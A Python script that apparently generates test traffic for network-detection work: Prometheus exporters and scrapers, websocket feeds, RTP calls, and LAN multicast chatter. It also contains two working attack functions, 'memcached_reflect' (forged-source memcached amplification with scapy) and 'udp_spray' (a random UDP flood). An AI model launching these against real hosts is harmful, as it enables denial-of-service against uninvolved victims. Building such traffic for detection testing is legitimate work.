#!/usr/bin/env python3
"""Servers and clients of the fourth set of unseen tools (docs/unseen-tools.md, "A fourth set"):
the benign kinds that no Debian package makes on its own, and the two packet attacks that need
forged headers. Standard library only, except `ticker`/`watch` (python3-websockets) and the
attacks (python3-scapy).

  exporters ADDR[,ADDR..] PORT[,PORT..]   Prometheus-style exporters: GET /metrics on every pair
  scrape SECONDS INTERVAL URL..           a scraper: one kept-alive connection per target
  ticker ADDR PORT                        a websocket server pushing a quote every 0.5-1.5 s
  watch URL CONNECTIONS SECONDS           dashboards holding websocket streams open
  rtp LOCAL_ADDR PEER_ADDR PORT SECONDS   one side of a call: 50 RTP packets a second, RTCP every 5 s
  chatter IFADDR SECONDS                  mDNS, SSDP and LLMNR chatter of a host, answering M-SEARCH
  memcached_reflect TARGET VICTIM SECONDS RATE   forged memcached UDP gets (source: VICTIM)
  udp_spray TARGET SECONDS RATE           UDP of random sizes from random ports to random ports
"""
import os, random, socket, struct, sys, threading, time


def exporters(addrs, ports):
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    class Metrics(BaseHTTPRequestHandler):
        protocol_version = 'HTTP/1.1'

        def do_GET(self):
            # Series counts differ by exporter (port), values change on every scrape.
            n = 150 + (self.server.server_port % 97) * 6
            body = ''.join(f'# TYPE m{i} gauge\nm{i}{{instance="{self.server.server_address[0]}"}} '
                           f'{random.random() * 1000:.3f}\n' for i in range(n)).encode()
            self.send_response(200)
            self.send_header('Content-Type', 'text/plain; version=0.0.4')
            self.send_header('Content-Length', str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    for addr in addrs.split(','):
        for port in ports.split(','):
            server = ThreadingHTTPServer((addr, int(port)), Metrics)
            threading.Thread(target=server.serve_forever, daemon=True).start()
    threading.Event().wait()


def scrape(seconds, interval, urls):
    import http.client
    from urllib.parse import urlsplit
    targets = [urlsplit(u) for u in urls]
    conns = [None] * len(targets)
    end = time.time() + float(seconds)
    while time.time() < end:
        start = time.time()
        for i, t in enumerate(targets):
            # Prometheus spreads its targets over the interval and keeps each connection.
            time.sleep(float(interval) / len(targets) * random.uniform(0.5, 1.0))
            try:
                if conns[i] is None:
                    conns[i] = http.client.HTTPConnection(t.hostname, t.port, timeout=5)
                conns[i].request('GET', t.path, headers={'Accept': 'text/plain'})
                conns[i].getresponse().read()
            except OSError:
                conns[i] = None
        time.sleep(max(0.0, float(interval) - (time.time() - start)))


def ticker(addr, port):
    import asyncio, websockets

    async def feed(ws, *unused):
        price = 100.0
        async for _ in _ticks():
            price *= 1 + random.gauss(0, 0.001)
            await ws.send(f'{{"symbol":"FLM","price":{price:.4f},"t":{time.time():.3f}}}')

    async def _ticks():
        while True:
            await asyncio.sleep(random.uniform(0.5, 1.5))
            yield None

    async def main():
        async with websockets.serve(feed, addr, int(port)):
            await asyncio.Future()

    asyncio.run(main())


def watch(url, connections, seconds):
    import asyncio, websockets

    async def one(k):
        await asyncio.sleep(k * random.uniform(0.2, 1.0))
        async with websockets.connect(url, ping_interval=20) as ws:
            end = time.time() + float(seconds) - k
            while time.time() < end:
                try:
                    await asyncio.wait_for(ws.recv(), timeout=max(0.1, end - time.time()))
                except asyncio.TimeoutError:
                    break

    async def main():
        await asyncio.gather(*(one(k) for k in range(int(connections))), return_exceptions=True)

    asyncio.run(main())


def rtp(local, peer, port, seconds):
    # G.711 at 20 ms: 160 bytes of audio behind a 12-byte RTP header; RTCP on port + 1.
    port = int(port)
    media = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    media.bind((local, port))
    media.setblocking(False)
    control = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    control.bind((local, port + 1))
    ssrc, seq, stamp = random.getrandbits(32), random.getrandbits(16), random.getrandbits(32)
    start = next_send = time.time()
    next_report = start + 5
    sent = 0
    while time.time() < start + float(seconds):
        header = struct.pack('!BBHII', 0x80, 0, seq & 0xFFFF, stamp & 0xFFFFFFFF, ssrc)
        media.sendto(header + os.urandom(160), (peer, port))
        seq, stamp, sent = seq + 1, stamp + 160, sent + 1
        try:
            while True:
                media.recv(2048)
        except BlockingIOError:
            pass
        if time.time() >= next_report:
            report = struct.pack('!BBHIIIIII', 0x80, 200, 6, ssrc, int(time.time()) + 2208988800, 0,
                                 stamp & 0xFFFFFFFF, sent, sent * 160)
            control.sendto(report, (peer, port + 1))
            next_report += 5
        next_send += 0.02
        time.sleep(max(0.0, next_send - time.time()))


def _dns_name(name):
    return b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0'


def chatter(ifaddr, seconds):
    """What idle desktops, printers and TVs send on a LAN: mDNS queries and announcements,
    SSDP searches and notifications (M-SEARCH answered by unicast), LLMNR queries."""
    host = 'h' + ifaddr.split('.')[-1]

    def mcast(port, bind_port):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(('', bind_port))
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ifaddr))
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255 if port != 1900 else 2)
        return s

    mdns = mcast(5353, 5353)
    mdns.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                    socket.inet_aton('224.0.0.251') + socket.inet_aton(ifaddr))
    ssdp = mcast(1900, 1900)
    ssdp.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                    socket.inet_aton('239.255.255.250') + socket.inet_aton(ifaddr))
    ssdp.setblocking(False)

    def answer_searches():
        while True:
            try:
                data, src = ssdp.recvfrom(2048)
            except BlockingIOError:
                return
            if data.startswith(b'M-SEARCH') and src[0] != ifaddr:
                ssdp.sendto(f'HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nLOCATION: http://{ifaddr}:49152/desc.xml\r\n'
                            f'ST: upnp:rootdevice\r\nUSN: uuid:{host}::upnp:rootdevice\r\n\r\n'.encode(), src)

    services = ['_googlecast._tcp.local', '_ipp._tcp.local', '_airplay._tcp.local', '_spotify-connect._tcp.local',
                '_workstation._tcp.local']
    end = time.time() + float(seconds)
    while time.time() < end:
        kind = random.random()
        if kind < 0.4:
            q = struct.pack('!HHHHHH', 0, 0, 1, 0, 0, 0) + _dns_name(random.choice(services)) + struct.pack('!HH', 12, 1)
            mdns.sendto(q, ('224.0.0.251', 5353))
        elif kind < 0.55:
            a = (struct.pack('!HHHHHH', 0, 0x8400, 0, 1, 0, 0) + _dns_name(f'{host}.local')
                 + struct.pack('!HHIH', 1, 0x8001, 120, 4) + socket.inet_aton(ifaddr))
            mdns.sendto(a, ('224.0.0.251', 5353))
        elif kind < 0.7:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ifaddr))
            s.sendto(b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nMX: 1\r\n'
                     b'ST: ssdp:all\r\n\r\n', ('239.255.255.250', 1900))
            s.settimeout(1.5)
            try:
                while True:
                    s.recvfrom(2048)
            except OSError:
                pass
            s.close()
        elif kind < 0.85:
            ssdp.sendto(f'NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nNT: upnp:rootdevice\r\nNTS: ssdp:alive\r\n'
                        f'LOCATION: http://{ifaddr}:49152/desc.xml\r\nUSN: uuid:{host}::upnp:rootdevice\r\n\r\n'.encode(),
                        ('239.255.255.250', 1900))
        else:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ifaddr))
            q = (struct.pack('!HHHHHH', random.getrandbits(16), 0, 1, 0, 0, 0)
                 + _dns_name(random.choice(['wpad', 'printer', 'nas', 'fileserver'])) + struct.pack('!HH', 1, 1))
            s.sendto(q, ('224.0.0.252', 5355))
            s.close()
        answer_searches()
        t = time.time() + random.uniform(0.5, 4.0)
        while time.time() < t:
            answer_searches()
            time.sleep(0.05)


def memcached_reflect(target, victim, seconds, rate):
    # The 8-byte memcached UDP frame header, then a get of a large value: the server answers the
    # forged source with many datagrams per request.
    from scapy.all import IP, UDP, Raw, conf, send
    conf.verb = 0
    end = time.time() + float(seconds)
    while time.time() < end:
        pkt = (IP(src=victim, dst=target) / UDP(sport=random.randint(1024, 65535), dport=11211)
               / Raw(struct.pack('!HHHH', random.getrandbits(16), 0, 1, 0) + b'get big\r\n'))
        send(pkt)
        time.sleep(1.0 / float(rate))


def udp_spray(target, seconds, rate):
    end = time.time() + float(seconds)
    gap = 1.0 / float(rate)
    while time.time() < end:
        t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)  # a new source port each time
        t.sendto(os.urandom(random.randint(20, 1400)), (target, random.randint(1, 65535)))
        t.close()
        time.sleep(gap)


if __name__ == '__main__':
    if len(sys.argv) < 2 or sys.argv[1] not in globals() or sys.argv[1].startswith('_'):
        sys.exit(__doc__)
    command = sys.argv[1]
    if command == 'scrape':
        scrape(sys.argv[2], sys.argv[3], sys.argv[4:])
    else:
        globals()[command](*sys.argv[2:])
